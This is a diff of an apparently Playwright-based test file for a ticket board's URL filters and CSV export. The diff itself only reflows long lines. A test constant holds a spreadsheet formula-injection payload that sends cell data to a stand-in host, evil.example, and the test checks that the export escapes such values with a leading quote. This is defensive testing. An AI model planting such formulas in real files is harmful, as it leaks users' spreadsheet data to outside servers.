@@ -19,7 +19,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 
 
 def opened(tid, title, kind="repair", unit="1-0101", **extra):
-    return {"ticket_id": tid, "kind": kind, "by": "edge:desk-1", "title": title, "unit": unit, "source": "edge", **extra}
+    return {"ticket_id": tid, "kind": kind, "by": "edge:desk-1", "title": title, "unit": unit, "source": "edge",
+            **extra}
 
 
 def board_ids(page):
@@ -79,7 +80,8 @@ def test_board_filters_in_the_url_live_updates_links_and_csv(page, central, tmp_
     lines = list(csv.reader(io.StringIO(text)))
     headers = page.eval_on_selector_all("#board thead th", "ths => ths.map(t => t.textContent)")
     assert lines[0] == headers
-    assert [r[0] for r in lines[1:]] == page.eval_on_selector_all("#board-body tr td.number", "ts => ts.map(t => t.textContent)")
+    shown = page.eval_on_selector_all("#board-body tr td.number", "ts => ts.map(t => t.textContent)")
+    assert [r[0] for r in lines[1:]] == shown
     bad = next(r for r in lines[1:] if FORMULA in r[3])
     assert bad[3] == "'" + FORMULA and bad[2] == "'-2+3"
     # Each row opens its ticket in one click (a real link).
